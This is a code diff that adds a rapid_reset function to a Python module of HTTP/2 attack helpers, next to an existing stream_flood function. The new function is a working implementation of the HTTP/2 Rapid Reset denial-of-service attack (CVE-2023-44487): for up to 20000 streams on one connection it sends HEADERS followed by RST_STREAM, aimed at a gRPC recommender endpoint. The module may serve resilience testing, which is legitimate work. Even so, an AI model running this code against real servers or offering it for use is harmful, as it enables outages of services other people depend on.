@@ -7,7 +7,7 @@ import struct
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, CONTINUATION, SETTINGS, DATA = 1, 9, 4, 0
+HEADERS, CONTINUATION, SETTINGS, DATA, RST_STREAM = 1, 9, 4, 0, 3
 SETTINGS_INITIAL_WINDOW_SIZE = 0x4
 END_STREAM, END_HEADERS = 0x1, 0x4
 MAX_FRAME = 16384  # the HTTP/2 default SETTINGS_MAX_FRAME_SIZE
@@ -222,6 +222,31 @@ def stream_flood(address, n=5000, ack=False, path="/recd.v1.Recommender/Recommen
         sent = n
         time.sleep(1)
     except OSError:  # closed by the peer
+        pass
+    finally:
+        s.close()
+    return sent
+
+
+def rapid_reset(address, n=20000, path="/recd.v1.Recommender/Recommend"):
+    """HEADERS then RST_STREAM(CANCEL) for n streams on one connection (the
+    HTTP/2 rapid reset, CVE-2023-44487): open streams stay few, calls made
+    are many. Returns the streams sent before the peer closed."""
+    s = connect(address)
+    block = request_headers(path)
+    sent, buf = 0, b""
+    try:
+        for i in range(n):
+            sid = 1 + 2 * i
+            buf += frame(HEADERS, END_HEADERS, sid, block) + frame(RST_STREAM, 0, sid,
+                                                                  struct.pack(">I", 8))
+            if len(buf) > 1 << 16:
+                s.sendall(buf)
+                sent, buf = i + 1, b""
+        s.sendall(buf)
+        sent = n
+        time.sleep(1)
+    except OSError:
         pass
     finally:
         s.close()
